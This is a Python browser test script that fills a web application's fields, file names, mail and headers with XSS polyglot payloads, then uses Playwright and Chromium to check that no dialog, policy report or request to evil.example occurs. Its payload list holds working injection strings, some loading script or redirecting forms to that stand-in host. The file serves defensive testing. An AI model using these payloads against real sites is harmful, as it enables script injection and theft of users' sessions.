"""Markup in every field, header, agent and file name; a real browser then looks at every page and mail.

ATTACK_ROUTES=command ATTACK_LOGIN=https://… [ATTACK_COMMAND=contentflow] python attacks/polyglots.py URL

Nothing may run: no dialog, no report of the Content-Security-Policy, no request to another site. With
``ATTACK_COMMAND``, the product's command line, an offer and a partner's name are markup as well. It needs
Playwright and Chromium, which ``make test`` installs and finds.
"""

from __future__ import annotations

import os
import re
import secrets
import shlex
import shutil
import subprocess
import sys
import time
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

from browser import Browser, not_tried, partner
from routes import Route, routes

EVIL = "evil.example"
POLYGLOTS = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    f"</title></textarea></script><script src=//{EVIL}/a.js></script>",
    f"<svg/onload=alert(1)><style>@import '//{EVIL}/a.css'</style>",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "`onmouseover=alert(1) ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "]]><!--><img src=x onerror=alert(1)//--!>",
    f'<a href="javascript:alert(1)">x</a><base href="//{EVIL}/"><form action=//{EVIL}>',
    f"<iframe srcdoc='<script>alert(1)</script>'></iframe><link rel=stylesheet href=//{EVIL}>",
    '<div hx-get="/" hx-trigger="load" hx-on:load="alert(1)" hx-vals="js:{a:alert(1)}">',
    "\\u003cscript\\u003ealert(1)&lt;script&gt;&#60;script&#62;<ſcript>alert(1)",
)
TOGETHER = " ".join(POLYGLOTS)
OWN = ("id", "sid", "send", "ch", "by", "next", "page", "month", "from", "to", "offer", "format", "q", "lang")
SPARED = ("/partner/export.json", "/partner/earnings/clicks.csv", "/byop/clip", "/dev/mailbox/<mail_id>/mail")
OF_A_POST = ("/byop/", "/p/<code>", "/partner/portal", "/partner/earnings", "/partner/offers")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-sync"]
REPORT = re.compile("Content Security Policy|Blocked script execution|Refused to")
# What a page does itself when its policy keeps something from it.
LISTEN = (
    "document.addEventListener('securitypolicyviolation', e => console.error('Content Security Policy: ' + \
e.violatedDirective + ' ' + e.blockedURI))"
)


class Watched:
    """A browser's page, and what happened on it that should not have."""

    def __init__(self, page: Any, url: str) -> None:
        self.page, self.url = page, url
        self.looked, self.fallen = 0, list[str]()
        self._place = ""
        page.add_init_script(LISTEN)
        page.on("dialog", self._on_dialog)
        page.on("console", lambda message: self._note("report", message.text, REPORT))
        page.on("request", lambda request: self._note("request", request.url, re.compile(rf"^\w+://{EVIL}")))

    def _on_dialog(self, dialog: Any) -> None:
        self._note("dialog", dialog.message, re.compile(""))
        dialog.dismiss()

    def _note(self, what: str, text: str, wrong: re.Pattern[str]) -> None:
        if wrong.search(text):
            self.fallen.append(f"{what} on {self._place[:60]}: {text[:120]}")

    def look(self, path: str) -> None:
        """Open a page, look at it for a moment, and touch what is in it."""
        self._place = path
        self.looked += 1
        try:
            self.page.goto(self.url + path, wait_until="load", timeout=20_000)
            self.page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            self.page.wait_for_timeout(30)
        except (
            Exception
        ) as error:  # Whatever Playwright's version calls a page that is a download, or is not there.
            if "Download is starting" not in str(error):
                self.fallen.append(f"{path[:60]} could not be looked at: {str(error).splitlines()[0][:200]}")

    def type_in(self, path: str) -> None:
        """Type into every field of a page's forms, so that its fragments are swapped in."""
        self.look(path)
        for field in self.page.locator("main textarea, main input[type=text], main input:not([type])").all():
            if field.is_visible() and field.is_editable():
                field.fill(TOGETHER[:2000])
                field.press("Tab")
        self.page.wait_for_timeout(1_500)


def bring(mallory: Browser, number: int, word: str, other: str) -> str:
    words = {
        "title": word[:120],
        "description": TOGETHER,
        "hashtags": f"#{word}",
        "cta": other[:200],
        "nonce": f"{number}",
    }
    return mallory.post("/byop/submit", **words).named("id")


def bring_file(mallory: Browser, word: str) -> str:
    """Bring a film and subtitles whose names are markup; neither is what it says."""
    name = word.replace('"', "%22").replace("/", "%2F")
    parts = {"csrf_token": mallory.token, "title": word[:120], "nonce": secrets.token_hex(8)}
    body = "".join(
        f'--b\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
        for key, value in parts.items()
    )
    for field, kind in (("video", "mp4"), ("srt", "srt")):
        body += f'--b\r\nContent-Disposition: form-data; name="{field}"; filename="{name}.{kind}"\r\n'
        body += f"Content-Type: text/html\r\n\r\n1\n00:00:00,000 --> 00:00:09,000\n{TOGETHER}\r\n"
    headers = {"Origin": mallory.url, "Content-Type": "multipart/form-data; boundary=b"}
    return mallory.ask("POST", "/byop/submit", f"{body}--b--\r\n".encode(), headers).named("id")


def touch(mallory: Browser, post: str, word: str) -> None:
    """Mail the post to an address and to markup, click its links and press its buttons as markup."""
    header = quote(word, safe=" <>'\"()=/:;{}$&#")
    emails = f'{secrets.token_hex(6)}@example.org\n{word}@example.org\n"{word}"@example.org'
    for verb in ("/byop/email/check", "/byop/email"):
        mallory.post(verb, sid=post, emails=emails, consent="1", nonce=secrets.token_hex(8), message=TOGETHER)
    mallory.post("/byop/email", sid=post, emails=emails.split()[0], consent="1", nonce=secrets.token_hex(8))
    mallory.post("/byop/log", sid=post, ch=word)
    for code in codes_of(mallory, post)[:2]:
        for agent in (header, f"Mozilla/5.0 (X11; Linux x86_64) {header}"):
            headers = {"User-Agent": agent, "Referer": f"https://{header}/", "Accept-Language": header}
            Browser(mallory.url).get(f"/l/{code}?{urlencode({'utm_source': word})}", headers)


def codes_of(mallory: Browser, post: str) -> list[str]:
    return [link["code"] for link in mallory.export()["links"] if link["submission_id"] == post]


def pages(known: list[Route], post: str, code: str) -> list[str]:
    """Return every page that can be opened, for one post."""
    ids = urlencode({"id": post, "sid": post, "ch": "qr"})
    rules = [route for route in known if route.method == "GET" and route.rule.startswith(OF_A_POST)]
    return [f"{route.path(code=code)}?{ids}" for route in rules if route.rule not in SPARED]


def reflected(known: list[Route]) -> list[str]:
    """Return every page with markup for its parameters and in its path."""
    rules = [route for route in known if route.method == "GET" and route.rule not in SPARED]
    query = urlencode(dict.fromkeys(OWN, TOGETHER))
    found = [f"{route.path()}?{query}" for route in rules]
    whole = quote(POLYGLOTS[1], safe="")
    found += ["/".join(whole if "<" in part else part for part in route.rule.split("/")) for route in rules]
    return [*found, f"/{whole}", f"/partner/login?{urlencode({'next': '/' + POLYGLOTS[0]})}"]


def mails(mallory: Browser) -> list[str]:
    """Return the local mailbox's pages, once the last mail has arrived; none where there is no mailbox."""
    until, seen = time.monotonic() + 15, 0
    while True:
        found = sorted(set(re.findall(r"/dev/mailbox/[\w-]+", mallory.get("/dev/mailbox").text)))
        if (found and len(found) == seen) or time.monotonic() > until:
            return [page for mail in found for page in (mail, f"{mail}/mail")]
        seen = len(found)
        time.sleep(1.5)


def name_as_markup(command: str) -> None:
    """Add offers whose every word is markup."""
    for word in POLYGLOTS[:3]:
        words = [
            "offer",
            "add",
            word[:100],
            "https://shop.example.org/?c={click_id}",
            "--advertiser",
            word[:100],
        ]
        subprocess.run([*shlex.split(command), *words], stdout=subprocess.DEVNULL, check=True)


def main(url: str) -> int:
    known, mallory = routes(), partner(url)
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        not_tried("Playwright is needed: make .venv/tests")
    chromium = shutil.which("chromium") or shutil.which("google-chrome") or not_tried("no Chromium was found")
    if command := os.environ.get("ATTACK_COMMAND"):
        name_as_markup(command)
    pairs = list(zip(POLYGLOTS[::2], POLYGLOTS[1::2], strict=True))
    posts = [bring(mallory, number, *pair) for number, pair in enumerate(pairs)]
    posts += [bring_file(mallory, word) for word in POLYGLOTS[:2]]
    posts = [post for post in posts if post]
    for post, word in zip(posts, POLYGLOTS * 2, strict=False):
        touch(mallory, post, word)
    paths = [path for post in posts for path in pages(known, post, (codes_of(mallory, post) or ["x"])[0])]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        context = browser.new_context(locale="en-GB")
        split = urlsplit(url)
        for cookie in filter(None, mallory.cookies().split("; ")):
            name, _, value = cookie.partition("=")
            context.add_cookies([{"name": name, "value": value, "domain": split.hostname or "", "path": "/"}])
        watched = Watched(context.new_page(), url)
        for path in dict.fromkeys(paths + reflected(known) + mails(mallory)):
            watched.look(path)
        for path in ["/byop/new"] + [
            f"/byop/{page}?id={post}" for post in posts[:1] for page in ("edit", "kit")
        ]:
            watched.type_in(path)
        browser.close()
    found = sorted(set(watched.fallen))
    print(
        f"{len(POLYGLOTS)} polyglots in {len(posts)} posts: {watched.looked} pages looked at, "
        f"{len(found)} things happened"
        f"{''.join(f'; {one}' for one in found[:8])}"
    )
    return int(bool(found) or not posts)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1].rstrip("/")))
